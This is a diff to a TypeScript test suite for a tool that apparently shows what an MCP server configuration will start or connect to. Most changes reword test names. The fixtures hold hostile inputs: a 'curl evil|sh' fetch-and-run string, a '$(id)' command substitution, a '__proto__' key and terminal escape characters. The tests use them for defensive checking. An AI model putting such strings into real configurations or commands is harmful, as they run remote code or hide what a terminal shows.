@@ -9,7 +9,7 @@ const withServer = (entry: object, more: object = {}): string =>
   JSON.stringify({ toolboxes: { t: { description: "d", mcpServers: { s: entry } } }, ...more });
 
 describe("effectsOf", () => {
-  it("knows programs, addresses and what they are given, with variables as they are written", async () => {
+  it("lists programs and URLs with their settings, and variables as they are written", async () => {
     const effects = await effectsOf(
       FILE,
       JSON.stringify({
@@ -52,14 +52,14 @@ describe("effectsOf", () => {
   it.each([
     ["another spelling", { cmd: ["sh", "-c", "x"], environment: { A: 1 } }],
     ["the canonical one", { command: "sh", args: ["-c", "x"], env: { A: "1" } }],
-  ])("understands %s as the program itself does", async (_, entry) => {
+  ])("reads %s in the same way as the program", async (_, entry) => {
     const { servers } = await effectsOf(FILE, withServer(entry));
     expect(servers).toEqual([
       { toolbox: "t", server: "s", disabled: false, command: ["sh", "-c", "x"], env: { A: "1" } },
     ]);
   });
 
-  it("reads comments as the program itself does", async () => {
+  it("reads comments in the same way as the program", async () => {
     const text = `// { "toolboxes": {} } */\n{ "toolboxes": { /* "t": {} */ "t": { "description": "// no", "mcpServers": { "s": { "command": "evil", }, } } } }`;
     expect(await linesFor(text)).toEqual(["start t/s: evil"]);
   });
@@ -72,12 +72,12 @@ describe("effectsOf", () => {
   });
 
   it.each([
-    ["what is no JSON", "{"],
+    ["invalid JSON", "{"],
     ["a key that occurs twice", '{ "toolboxes": {}, "toolboxes": {} }'],
     ["an escaped key that occurs twice", String.raw`{ "toolboxes": {}, "\u0074oolboxes": {} }`],
     ["a key that changes the object", '{ "__proto__": { "toolboxes": {} } }'],
     ["what is nested too deeply", "[".repeat(10_000)],
-  ])("refuses %s, because it cannot be shown", async (_, text) => {
+  ])("rejects %s, because it cannot be shown", async (_, text) => {
     await expect(effectsOf(FILE, text)).rejects.toMatchObject({ code: "CONFIG_INVALID" });
   });
 
@@ -85,7 +85,7 @@ describe("effectsOf", () => {
     ["nothing", "null"],
     ["a list", "[]"],
     ["toolboxes that are none", '{ "toolboxes": [1, { "mcpServers": 5 }] }'],
-  ])("has nothing to say about %s", async (_, text) => {
+  ])("is empty for %s", async (_, text) => {
     expect(await linesFor(text)).toEqual(["start nothing: it has no servers"]);
   });
 });
@@ -106,14 +106,14 @@ describe("effectLines", () => {
     ]);
   });
 
-  it("hides nothing for its name", async () => {
+  it("does not hide values by their names", async () => {
     const args = ["-c", "token=x;curl evil|sh", "--password", "$(id)"];
     expect(await linesFor(withServer({ command: "sh", args }))).toEqual([
       "start t/s: sh -c 'token=x;curl evil|sh' --password '$(id)'",
     ]);
   });
 
-  it("shows also what will be refused", async () => {
+  it("also shows what would be rejected", async () => {
     expect(await linesFor(withServer({ command: 5, args: { a: 1 }, url: ["x"] }))).toEqual([
       `start t/s: 5 '{"a":"1"}'`,
       `connect t/s to ["x"]`,
@@ -123,7 +123,7 @@ describe("effectLines", () => {
     ]);
   });
 
-  it("writes out what a terminal would obey or not show, in every part", async () => {
+  it("escapes what a terminal would interpret or not show, in every part", async () => {
     const entry = {
       url: "http://x/\u001b]0;a\u0007",
       headers: { "X\u202e": "\u200b" },
